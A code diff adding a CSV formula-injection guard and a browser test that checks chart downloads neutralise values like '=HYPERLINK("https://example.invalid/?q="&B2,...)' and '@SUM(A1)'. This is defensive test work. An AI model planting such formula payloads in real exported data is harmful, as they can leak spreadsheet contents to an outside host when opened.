@@ -447,6 +447,46 @@ def chart_rows(spec: dict) -> dict[str, list[dict]]:
             for name, rows in spec["datasets"].items()}
 
 
+def csv_shown(value) -> str:
+    """What a chart's CSV download holds for a cell: dates at midnight as dates, and a text
+    that a spreadsheet would run as a formula behind a quote (numbers stay numbers)."""
+    if value is None:
+        return ""
+    text = str(value)
+    if isinstance(value, str):
+        text = re.sub(r"^(\d{4}-\d{2}-\d{2})T00:00:00(\.0+)?Z?$", r"\1", text)
+        if re.match(r"[=+\-@\t\r]", text) and not re.fullmatch(r"[-+]?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?", text):
+            text = "'" + text
+    return text
+
+
+@pytest.mark.browser
+def test_csv_downloads_neutralise_formulas_and_keep_numbers_and_dates(browser, tmp_path):
+    """Issue 22: '=HYPERLINK(...)' in a note reached the CSV as a live formula; dates came
+    out as 1989-12-01T00:00:00. Numbers, negative ones too, must stay numbers."""
+    import json
+
+    rows = [{"note": '=HYPERLINK("https://example.invalid/?q="&B2,"see source")', "value": -52.2,
+             "as_of": "1989-12-01T00:00:00", "text_number": "-84.6", "a": "+1 more", "b": "@SUM(A1)",
+             "c": "-1+2", "d": "\tTAB", "e": "\rCR", "f": "plain, with comma", "_hidden": 1}]
+    script = (Path(selfcheck.__file__).parent / "assets" / "handout.js").read_text(encoding="utf-8")
+    page_file = tmp_path / "csv.html"
+    page_file.write_text('<!DOCTYPE html><html><body><script type="application/json" id="t-spec">'
+                         + json.dumps({"datasets": {"d": rows}}) + "</script><script>" + script
+                         + "</script></body></html>", encoding="utf-8")
+    page = open_offline(browser, page_file)
+    try:
+        text = page.evaluate("ihChartCsv('t-spec', 'd')")
+    finally:
+        page.close()
+    got = next(csv.DictReader(io.StringIO(text)))
+    assert got["note"] == "'" + rows[0]["note"] and got["a"] == "'+1 more" and got["b"] == "'@SUM(A1)"
+    assert got["c"] == "'-1+2" and got["d"] == "'\tTAB" and got["e"] == "'\rCR"
+    assert got["value"] == "-52.2" and got["text_number"] == "-84.6", "a negative number was altered"
+    assert got["as_of"] == "1989-12-01" and got["f"] == "plain, with comma" and "_hidden" not in got
+    assert all(got[k] == csv_shown(v) for k, v in rows[0].items() if not k.startswith("_") and k != "value")
+
+
 def check_downloads(page, specs: list[dict]) -> int:
     """Every chart has a data box and CSV links whose files hold the rows the chart draws."""
     from helpers.build.browser import wait_for_charts
@@ -477,7 +517,7 @@ def check_downloads(page, specs: list[dict]) -> int:
                         if isinstance(value, (int, float)) and not isinstance(value, bool):
                             assert float(got[key]) == value, f"chart {i + 1}, {key}: {got[key]!r} != {value!r}"
                         else:
-                            shown = "" if value is None else str(value)
+                            shown = csv_shown(value)
                             assert got[key] == shown, f"chart {i + 1}, {key}: {got[key]!r} != {shown!r}"
             else:
                 assert rows, f"chart {i + 1}: the CSV is empty"
